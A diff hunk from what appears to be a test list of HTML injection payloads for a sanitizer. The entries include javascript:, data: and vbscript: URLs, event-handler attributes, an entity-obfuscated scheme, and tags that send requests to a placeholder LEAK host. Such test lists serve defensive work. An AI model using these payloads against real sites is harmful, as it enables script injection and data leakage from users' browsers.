@@ -37,7 +37,7 @@ PAYLOADS = [
     f"<object data='{LEAK}/o'></object><embed src='{LEAK}/e'><applet code='{LEAK}/a'></applet>",
     f"<form action='{LEAK}/form'><input name=q autofocus onfocus=\"{ATTRIBUTE}\">"
     f"<button formaction='javascript:{RUN}'>Go</button></form>",
-    f"<a href='javascript:{RUN}'>a</a> <a href=' jav&#x09;ascript:{RUN}'>b</a>",
+    f"<a href='javascript:{RUN}'>a</a> <a href=' java&#x09;script:{RUN}'>b</a>",
     f"<a href='data:text/html,<script>{RUN}</script>'>c</a> <a href='vbscript:x'>d</a>",
     f'<a href="#" ping="{LEAK}/ping" onmouseover="{ATTRIBUTE}">e</a>',
     f"<meta http-equiv='refresh' content='0;url={LEAK}/refresh'>",
